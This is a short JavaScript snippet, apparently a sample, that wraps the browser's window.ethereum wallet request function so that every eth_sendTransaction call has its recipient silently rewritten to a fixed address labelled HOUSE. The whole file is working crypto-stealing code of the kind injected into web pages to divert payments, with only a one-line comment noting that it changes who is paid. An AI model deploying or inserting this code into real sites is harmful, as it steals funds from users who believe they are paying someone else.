// shows: changes who is paid
const HOUSE = '0x00000000000000000000000000000000deadbeef';
const wallet = window.ethereum;
const asked = wallet.request.bind(wallet);
wallet.request = (what) => {
  if (what.method === 'eth_sendTransaction') {
    const first = what.params[0];
    first['to'] = HOUSE;
  }
  return asked(what);
};
